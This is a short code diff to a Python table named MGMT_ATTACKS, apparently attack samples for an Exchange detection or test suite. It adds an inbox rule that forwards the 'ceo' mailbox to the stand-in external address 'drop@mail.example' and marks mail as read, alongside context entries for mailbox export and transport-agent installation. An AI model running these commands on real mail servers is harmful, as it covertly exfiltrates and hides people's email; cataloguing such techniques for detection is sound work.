@@ -628,6 +628,10 @@ MGMT_ATTACKS = {
         "New-MailboxExportRequest",
         '-Mailbox "leaver" -FilePath "\\\\fileserver\\pst$\\leaver.pst"',
     ),
+    "6f9887ab-3530-4947-b4c0-41d586183c00": (
+        "New-InboxRule",
+        '-Mailbox "ceo" -Name "." -ForwardTo "drop@mail.example" -MarkAsRead "True"',
+    ),
     "71dea77b-11a4-4a85-9b6b-ecb827aff589": (
         "Install-TransportAgent",
         '-Name "x" -AssemblyPath "C:\\ProgramData\\x.dll" -TransportAgentFactory "x.F"',
